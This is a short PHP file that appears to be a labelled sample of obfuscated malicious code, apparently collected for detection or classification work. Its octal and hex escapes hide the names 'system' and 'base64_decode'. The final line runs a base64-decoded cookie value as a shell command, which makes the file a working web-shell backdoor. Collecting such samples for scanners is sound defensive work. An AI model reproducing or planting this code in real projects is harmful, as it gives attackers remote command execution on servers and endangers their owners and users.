<?php
// Family: obfuscation/hex-escape
// Style: octal escapes
// Trait: function names written as octal escapes, mixed with hex, called on cookie data
$x = "\163\171\163\164\145\155";
$y = "\x62\141\163\x65\66\64\137\144\145\143\157\144\145";
$x($y($_COOKIE["\143"]));
